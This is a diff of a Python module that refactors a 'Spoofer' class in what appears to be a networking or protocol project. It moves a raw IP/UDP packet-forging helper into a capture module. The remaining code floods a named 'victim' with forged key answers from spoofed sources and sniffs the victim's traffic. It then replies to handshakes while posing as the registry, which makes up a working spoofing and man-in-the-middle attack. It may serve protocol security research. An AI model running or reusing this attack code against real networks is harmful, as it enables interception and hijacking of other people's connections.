@@ -10,7 +10,6 @@ from __future__ import annotations
 import contextlib
 import select
 import socket
-import struct
 import threading
 import time
 
@@ -21,29 +20,12 @@ from wire.codec import decode_datagram_batch
 from wire.errors import DecodeError
 from wire.messages import Message, Register
 
-from .capture import ETH_P_ALL, LINK_HEADER, PACKET_OUTGOING, _checksum, _parse
+from .capture import ETH_P_ALL, LINK_HEADER, PACKET_OUTGOING, parse_packet, spoofed_packet
 
 Addr = tuple[str, int]
 #: Key answers sent per burst, and the pause between bursts (seconds): some 20,000 a
 #: second from Python, enough that one is waiting whenever the peer asks.
 BURST, PAUSE = 40, 0.002
-
-
-def _spoofed(payload: bytes, src: Addr, dst: Addr) -> bytes:
-    """The IP packet of a UDP datagram from `src` to `dst` (see capture.send_spoofed)."""
-    udp_len = 8 + len(payload)
-    pseudo = (
-        socket.inet_aton(src[0]) + socket.inet_aton(dst[0]) + struct.pack("!BBH", 0, 17, udp_len)
-    )
-    header = struct.pack("!HHHH", src[1], dst[1], udp_len, 0)
-    checksum = _checksum(pseudo + header + payload) or 0xFFFF
-    udp = struct.pack("!HHHH", src[1], dst[1], udp_len, checksum) + payload
-    ip = struct.pack(
-        "!BBHHHBBH4s4s",
-        0x45, 0, 20 + len(udp), 0, 0, 64, 17, 0,
-        socket.inet_aton(src[0]), socket.inet_aton(dst[0]),
-    )  # fmt: skip
-    return ip + udp
 
 
 class Spoofer:
@@ -77,7 +59,7 @@ class Spoofer:
 
     def _flood(self) -> None:
         answers = [bytes([KEY_ANSWER]) + channel.public for channel in self.channels]
-        packets = [_spoofed(a, src, self.victim) for a in answers for src in self._forged]
+        packets = [spoofed_packet(a, src, self.victim) for a in answers for src in self._forged]
         n = 0
         while not self._stop.is_set():
             for _ in range(BURST):
@@ -97,7 +79,7 @@ class Spoofer:
             if not ready:
                 continue
             frame, addr = self._sniff.recvfrom(65_600)
-            packet = _parse(frame[LINK_HEADER:]) if addr[2] != PACKET_OUTGOING else None
+            packet = parse_packet(frame[LINK_HEADER:]) if addr[2] != PACKET_OUTGOING else None
             if packet is None or packet.proto != "udp" or packet.src != self.victim:
                 continue
             if packet.dst == self.registry:
@@ -109,7 +91,7 @@ class Spoofer:
             if opened.send:
                 self.handshakes += 1
             for data, to in opened.send:
-                self._raw.sendto(_spoofed(data, self.registry, to), (to[0], 0))
+                self._raw.sendto(spoofed_packet(data, self.registry, to), (to[0], 0))
             if opened.data is None:
                 continue
             with contextlib.suppress(DecodeError):
